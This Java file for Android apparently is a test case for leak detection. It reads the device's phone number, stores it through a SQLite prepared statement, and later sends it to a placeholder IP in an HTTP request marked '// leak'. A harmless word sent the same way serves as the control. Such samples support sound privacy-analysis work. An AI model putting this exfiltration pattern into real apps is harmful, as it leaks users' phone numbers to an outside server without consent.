package habits;

import android.app.Activity;
import android.content.Context;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.database.sqlite.SQLiteStatement;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Rows that are written with a prepared statement. */
public class Statement extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        SQLiteDatabase db = openOrCreateDatabase("d", 0, null);
        SQLiteStatement secret = db.compileStatement("insert into phones(number) values (?)");
        secret.bindString(1, phone.getLine1Number());
        secret.executeInsert();
        SQLiteStatement plain = db.compileStatement("insert into words(word) values (?)");
        plain.bindString(1, "hello");
        plain.executeInsert();
    }

    @Override
    protected void onResume() {
        super.onResume();
        SQLiteDatabase db = openOrCreateDatabase("d", 0, null);
        try {
            Cursor phones = db.rawQuery("select number from phones", null);
            phones.moveToFirst();
            new URL("http://203.0.113.3/p/" + phones.getString(0)).openStream(); // leak
            Cursor words = db.query("words", null, null, null, null, null, null);
            words.moveToFirst();
            new URL("http://203.0.113.3/w/" + words.getString(0)).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
